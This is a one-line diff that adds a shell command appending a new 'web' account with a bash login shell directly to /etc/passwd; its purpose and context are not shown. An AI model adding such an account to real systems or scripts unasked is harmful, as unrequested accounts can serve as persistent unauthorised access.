@@ -1,0 +1,1 @@
+echo 'web:x:901:100::/:/bin/bash' >> /etc/passwd
